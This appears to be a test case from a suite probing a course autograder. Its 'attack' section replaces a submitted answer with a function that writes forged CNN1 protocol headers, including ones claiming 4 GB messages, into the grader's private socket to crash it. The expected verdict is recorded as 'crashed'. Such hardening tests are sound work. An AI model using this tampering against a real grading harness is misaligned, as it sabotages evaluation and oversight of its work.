"""Announces a message of four gigabytes, so that the judge makes room for it.

Covers: A14
Verdict: crashed
"""

# %% attack
import struct

from course_lib.checking import grading

headers = [
    struct.pack(">4sII", b"CNN1", 0xFFFFFFFF, 0xFFFFFFFF),
    struct.pack(">4sII", b"CNN1", 16 << 20, 256 << 20),
    struct.pack(">4sII", b"CNN1", 2, 0) + b"[]",
    struct.pack(">4sII", b"CNN1", 0, 0),
]


def answer(name):
    def announce(*args, **kwargs):
        grading._channel._socket.sendall(headers[len(name) % 4])

    return announce


# %% honest
import struct

print(struct.unpack(">4sII", struct.pack(">4sII", b"CNN1", 2, 0)))
